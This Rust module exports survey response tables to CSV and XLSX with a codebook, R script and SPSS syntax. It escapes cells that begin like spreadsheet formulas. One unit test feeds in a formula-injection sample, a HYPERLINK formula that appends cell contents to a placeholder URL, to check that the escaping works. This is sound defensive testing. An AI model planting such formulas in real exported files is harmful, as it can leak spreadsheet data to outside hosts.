//! Writers for exported tables: CSV for Dutch and international Excel, XLSX, and next to the
//! data a codebook (variables, labels, value labels) with an R script and SPSS syntax that
//! read the CSV with those labels. What goes in the table is decided by the caller.

use std::fmt::Write as _;

/// One column of an exported table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Variable {
    /// Safe for R and SPSS: letters, digits and `_`, starting with a letter.
    pub name: String,
    pub label: String,
    /// Whether the values are numbers (codes, marks, counts) rather than text.
    pub numeric: bool,
    /// Value labels of a coded variable.
    pub values: Vec<(i64, String)>,
    /// Codes that mean "no answer" in analyses (e.g. "weet ik niet").
    pub missing: Vec<i64>,
    /// Longest text a text variable can hold (for SPSS).
    pub width: usize,
}

impl Variable {
    pub fn number(name: &str, label: &str) -> Self {
        Variable {
            name: variable_name(name),
            label: label.to_owned(),
            numeric: true,
            values: Vec::new(),
            missing: Vec::new(),
            width: 8,
        }
    }

    pub fn text(name: &str, label: &str, width: usize) -> Self {
        Variable {
            numeric: false,
            width: width.max(1),
            ..Variable::number(name, label)
        }
    }

    pub fn coded(name: &str, label: &str, values: Vec<(i64, String)>) -> Self {
        Variable {
            values,
            ..Variable::number(name, label)
        }
    }
}

/// A table to export: one row per response (or per fragment), one cell per variable.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Table {
    pub variables: Vec<Variable>,
    pub rows: Vec<Vec<String>>,
}

/// The column separator of a CSV file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Separator {
    Comma,
    /// What Excel with Dutch settings expects.
    Semicolon,
}

impl Separator {
    pub fn byte(self) -> u8 {
        match self {
            Separator::Comma => b',',
            Separator::Semicolon => b';',
        }
    }
}

/// A question key (`hulp-op-tijd`) as a variable name R and SPSS accept (`hulp_op_tijd`).
pub fn variable_name(key: &str) -> String {
    let name: String = key
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
        .collect();
    if name.starts_with(|c: char| c.is_ascii_alphabetic()) {
        name
    } else {
        format!("v{name}")
    }
}

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A cell as a spreadsheet may read it without running anything: text that starts like a
/// formula (`=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, which Excel
/// and LibreOffice show as text. Plain numbers, negative ones too, stay numbers.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = cell.strip_prefix('-').is_some_and(|n| {
        !n.is_empty()
            && n.chars()
                .all(|c| c.is_ascii_digit() || c == '.' || c == ',')
    });
    if risky && !number {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

fn csv_writer(out: Vec<u8>, separator: Separator) -> csv::Writer<Vec<u8>> {
    csv::WriterBuilder::new()
        .delimiter(separator.byte())
        .from_writer(out)
}

/// The start of a CSV file: the byte order mark and the header line.
pub fn csv_head<S: AsRef<str>>(header: &[S], separator: Separator) -> Vec<u8> {
    let mut writer = csv_writer(BOM.to_vec(), separator);
    // Writing to memory cannot fail.
    let _ = writer.write_record(
        header
            .iter()
            .map(|h| spreadsheet_safe(h.as_ref()).into_owned()),
    );
    writer.into_inner().unwrap_or_default()
}

/// Lines of a CSV file, to follow its head: a file can be sent part by part.
pub fn csv_lines(rows: &[Vec<String>], separator: Separator) -> Vec<u8> {
    let mut writer = csv_writer(Vec::new(), separator);
    for row in rows {
        let _ = writer.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()));
    }
    writer.into_inner().unwrap_or_default()
}

fn write_csv<S: AsRef<str>>(header: &[S], rows: &[Vec<String>], separator: Separator) -> Vec<u8> {
    let mut out = csv_head(header, separator);
    out.extend(csv_lines(rows, separator));
    out
}

/// The table as CSV: UTF-8 with a byte order mark (so Excel reads the accents), a header of
/// variable names.
pub fn to_csv(table: &Table, separator: Separator) -> Vec<u8> {
    let header: Vec<&str> = table.variables.iter().map(|v| v.name.as_str()).collect();
    write_csv(&header, &table.rows, separator)
}

/// Any rows with a header as CSV (UTF-8 with a byte order mark).
pub fn rows_to_csv(header: &[&str], rows: &[Vec<String>], separator: Separator) -> Vec<u8> {
    write_csv(header, rows, separator)
}

/// The codebook: per variable its label and type, and one line per value label.
pub fn codebook_rows(table: &Table) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    for v in &table.variables {
        let kind = if v.numeric { "numeriek" } else { "tekst" };
        rows.push(vec![
            v.name.clone(),
            v.label.clone(),
            kind.to_owned(),
            String::new(),
            String::new(),
            String::new(),
        ]);
        for (code, label) in &v.values {
            rows.push(vec![
                v.name.clone(),
                String::new(),
                String::new(),
                code.to_string(),
                label.clone(),
                if v.missing.contains(code) { "ja" } else { "" }.to_owned(),
            ]);
        }
    }
    rows
}

/// Column names of the codebook.
pub const CODEBOOK_HEADER: [&str; 6] = [
    "variabele",
    "label",
    "type",
    "waarde",
    "waardelabel",
    "ontbrekend",
];

fn r_string(text: &str) -> String {
    format!(
        "\"{}\"",
        text.replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\n', " ")
    )
}

/// An R script that reads the CSV with factors for coded variables and variable labels.
pub fn r_script(table: &Table, csv_file: &str, separator: Separator) -> String {
    let sep = separator.byte() as char;
    let mut out = format!(
        "# Leest {csv_file} in met de labels van het codeboek (gemaakt door Samenspraak).\n\
         d <- read.csv({}, sep = \"{sep}\", fileEncoding = \"UTF-8-BOM\",\n  \
         stringsAsFactors = FALSE, na.strings = \"\")\n",
        r_string(csv_file)
    );
    for v in &table.variables {
        if !v.values.is_empty() {
            let levels = v
                .values
                .iter()
                .map(|(c, _)| c.to_string())
                .collect::<Vec<_>>()
                .join(", ");
            let labels = v
                .values
                .iter()
                .map(|(_, l)| r_string(l))
                .collect::<Vec<_>>()
                .join(", ");
            let _ = writeln!(
                out,
                "d${0} <- factor(d${0}, levels = c({levels}), labels = c({labels}))",
                v.name
            );
        }
        let _ = writeln!(
            out,
            "attr(d${}, \"label\") <- {}",
            v.name,
            r_string(&v.label)
        );
    }
    out
}

fn spss_string(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''").replace(['\n', '\r'], " "))
}

/// SPSS syntax that reads the CSV with variable labels, value labels and missing values.
pub fn spss_syntax(table: &Table, csv_file: &str, separator: Separator) -> String {
    let sep = separator.byte() as char;
    let mut out = format!(
        "* Leest {csv_file} in met de labels van het codeboek (gemaakt door Samenspraak).\n\
         GET DATA /TYPE=TXT /FILE={} /ENCODING='UTF8'\n  \
         /DELIMITERS=\"{sep}\" /QUALIFIER='\"' /ARRANGEMENT=DELIMITED /FIRSTCASE=2\n  \
         /VARIABLES=\n",
        spss_string(csv_file)
    );
    for v in &table.variables {
        let format = if v.numeric {
            "F8.0".to_owned()
        } else {
            format!("A{}", v.width.min(32_767))
        };
        let _ = writeln!(out, "    {} {format}", v.name);
    }
    out.push_str(".\nVARIABLE LABELS\n");
    let labels = table
        .variables
        .iter()
        .map(|v| format!("  {} {}", v.name, spss_string(&v.label)))
        .collect::<Vec<_>>()
        .join("\n  /");
    out.push_str(&labels);
    out.push_str(" .\n");
    let coded: Vec<_> = table
        .variables
        .iter()
        .filter(|v| !v.values.is_empty())
        .collect();
    if !coded.is_empty() {
        out.push_str("VALUE LABELS\n");
        let lines = coded
            .iter()
            .map(|v| {
                let values = v
                    .values
                    .iter()
                    .map(|(c, l)| format!("{c} {}", spss_string(l)))
                    .collect::<Vec<_>>()
                    .join(" ");
                format!("  {} {values}", v.name)
            })
            .collect::<Vec<_>>()
            .join("\n  /");
        out.push_str(&lines);
        out.push_str(" .\n");
    }
    for v in table.variables.iter().filter(|v| !v.missing.is_empty()) {
        let codes = v
            .missing
            .iter()
            .map(i64::to_string)
            .collect::<Vec<_>>()
            .join(", ");
        let _ = writeln!(out, "MISSING VALUES {} ({codes}).", v.name);
    }
    out.push_str("EXECUTE.\n");
    out
}

/// The table as an Excel workbook: the data on the first sheet (numbers as numbers), the
/// codebook on the second.
pub fn to_xlsx(table: &Table, data_sheet: &str, codebook_sheet: &str) -> Result<Vec<u8>, String> {
    let mut book = XlsxWriter::new(&table.variables, data_sheet)?;
    for row in &table.rows {
        book.push(row)?;
    }
    let mut out = Vec::new();
    book.finish(codebook_sheet, &mut out)?;
    Ok(out)
}

/// An Excel workbook written row by row: the data sheet in `rust_xlsxwriter`'s constant
/// memory mode (rows go to a temporary file as they come), the file itself written as a
/// stream at the end. Memory stays flat however many rows there are.
pub struct XlsxWriter {
    book: rust_xlsxwriter::Workbook,
    variables: Vec<Variable>,
    row: u32,
}

impl XlsxWriter {
    /// A workbook with the header row of the data sheet written.
    pub fn new(variables: &[Variable], data_sheet: &str) -> Result<Self, String> {
        let mut book = rust_xlsxwriter::Workbook::new();
        let bold = rust_xlsxwriter::Format::new().set_bold();
        let sheet = book
            .add_worksheet_with_constant_memory()
            .map_err(|e| e.to_string())?;
        sheet.set_name(data_sheet).map_err(|e| e.to_string())?;
        sheet.set_freeze_panes(1, 0).map_err(|e| e.to_string())?;
        for (c, v) in variables.iter().enumerate() {
            sheet
                .write_string_with_format(0, c as u16, &v.name, &bold)
                .map_err(|e| e.to_string())?;
        }
        Ok(XlsxWriter {
            book,
            variables: variables.to_vec(),
            row: 0,
        })
    }

    /// The next row of data; numbers of numeric variables as numbers.
    pub fn push(&mut self, row: &[String]) -> Result<(), String> {
        self.row += 1;
        let sheet = self
            .book
            .worksheet_from_index(0)
            .map_err(|e| e.to_string())?;
        for (c, (cell, v)) in row.iter().zip(&self.variables).enumerate() {
            let c = c as u16;
            if cell.is_empty() {
                continue;
            }
            match cell.parse::<f64>() {
                Ok(n) if v.numeric => sheet.write_number(self.row, c, n).map(|_| ()),
                _ => sheet.write_string(self.row, c, cell).map(|_| ()),
            }
            .map_err(|e| e.to_string())?;
        }
        Ok(())
    }

    /// Adds the codebook sheet and writes the whole file to `out`, front to back.
    pub fn finish(
        mut self,
        codebook_sheet: &str,
        out: impl std::io::Write + Send,
    ) -> Result<(), String> {
        let bold = rust_xlsxwriter::Format::new().set_bold();
        let codebook = self.book.add_worksheet();
        codebook
            .set_name(codebook_sheet)
            .map_err(|e| e.to_string())?;
        for (c, h) in CODEBOOK_HEADER.iter().enumerate() {
            codebook
                .write_string_with_format(0, c as u16, *h, &bold)
                .map_err(|e| e.to_string())?;
        }
        let table = Table {
            variables: self.variables,
            rows: Vec::new(),
        };
        for (r, row) in codebook_rows(&table).iter().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                codebook
                    .write_string(r as u32 + 1, c as u16, cell)
                    .map_err(|e| e.to_string())?;
            }
        }
        self.book.save_to_writer(out).map_err(|e| e.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Table {
        Table {
            variables: vec![
                Variable::number("respons", "Respons"),
                Variable {
                    missing: vec![9],
                    ..Variable::coded(
                        "graag-naar-school",
                        "Ik ga \"graag\" naar school.",
                        vec![(1, "Helemaal oneens".into()), (9, "Weet ik niet".into())],
                    )
                },
                Variable::text("tip", "Jouw tip, van 't team", 200),
            ],
            rows: vec![
                vec!["1".into(), "9".into(), "Meer uitleg; en \"rust\"".into()],
                vec!["2".into(), "1".into(), "Café één\nregel twee".into()],
                vec!["3".into(), String::new(), String::new()],
            ],
        }
    }

    #[test]
    fn names_are_safe_for_r_and_spss() {
        assert_eq!(variable_name("hulp-op-tijd"), "hulp_op_tijd");
        assert_eq!(variable_name("10-vragen"), "v10_vragen");
    }

    #[test]
    fn cells_that_start_like_a_formula_are_written_as_text() {
        let rows = vec![vec![
            "=HYPERLINK(\"http://x\"&A1;\"klik\")".to_owned(),
            "+31 6".to_owned(),
            "-2+A1".to_owned(),
            "@SUM(A1)".to_owned(),
            "\tx".to_owned(),
            "\rx".to_owned(),
            "-12".to_owned(),
            "3,5".to_owned(),
            "gewoon".to_owned(),
        ]];
        let csv = rows_to_csv(&["a"; 9], &rows, Separator::Semicolon);
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(&csv[BOM.len()..]);
        let read: Vec<String> = reader
            .records()
            .next()
            .unwrap()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        assert_eq!(
            read,
            [
                "'=HYPERLINK(\"http://x\"&A1;\"klik\")",
                "'+31 6",
                "'-2+A1",
                "'@SUM(A1)",
                "'\tx",
                "'\rx",
                "-12",
                "3,5",
                "gewoon"
            ]
        );
        assert_eq!(spss_string("a\r\nb"), "'a  b'");
    }

    #[test]
    fn csv_reads_back_with_either_separator() {
        for separator in [Separator::Comma, Separator::Semicolon] {
            let bytes = to_csv(&table(), separator);
            assert!(bytes.starts_with(BOM));
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(separator.byte())
                .from_reader(&bytes[BOM.len()..]);
            let header: Vec<String> = reader
                .headers()
                .unwrap()
                .iter()
                .map(str::to_owned)
                .collect();
            assert_eq!(header, ["respons", "graag_naar_school", "tip"]);
            let rows: Vec<Vec<String>> = reader
                .records()
                .map(|r| r.unwrap().iter().map(str::to_owned).collect())
                .collect();
            assert_eq!(rows, table().rows);
        }
    }

    #[test]
    fn xlsx_reads_back_with_numbers_as_numbers() {
        use calamine::{Data, Reader, Xlsx};
        let bytes = to_xlsx(&table(), "Antwoorden", "Codeboek").unwrap();
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        assert_eq!(book.sheet_names(), ["Antwoorden", "Codeboek"]);
        let data = book.worksheet_range("Antwoorden").unwrap();
        assert_eq!(
            data.get((0, 1)),
            Some(&Data::String("graag_naar_school".into()))
        );
        assert_eq!(data.get((1, 1)), Some(&Data::Float(9.0)));
        assert_eq!(
            data.get((2, 2)),
            Some(&Data::String("Café één\nregel twee".into()))
        );
        assert!(matches!(data.get((3, 1)), None | Some(Data::Empty)));
        let codebook = book.worksheet_range("Codeboek").unwrap();
        let rows: Vec<Vec<String>> = codebook
            .rows()
            .skip(1)
            .map(|r| r.iter().map(|c| c.to_string()).collect())
            .collect();
        assert_eq!(rows, codebook_rows(&table()));
    }

    #[test]
    fn r_and_spss_syntax_carry_the_labels() {
        let r = r_script(&table(), "antwoorden.csv", Separator::Semicolon);
        assert!(r.contains("sep = \";\""), "{r}");
        assert!(r.contains(
            "d$graag_naar_school <- factor(d$graag_naar_school, levels = c(1, 9), \
             labels = c(\"Helemaal oneens\", \"Weet ik niet\"))"
        ));
        assert!(r.contains(
            "attr(d$graag_naar_school, \"label\") <- \"Ik ga \\\"graag\\\" naar school.\""
        ));
        let sps = spss_syntax(&table(), "antwoorden.csv", Separator::Comma);
        assert!(sps.contains("/DELIMITERS=\",\""), "{sps}");
        assert!(sps.contains("    tip A200\n"));
        assert!(sps.contains("tip 'Jouw tip, van ''t team'"));
        assert!(sps.contains("graag_naar_school 1 'Helemaal oneens' 9 'Weet ik niet'"));
        assert!(sps.contains("MISSING VALUES graag_naar_school (9)."));
    }
}
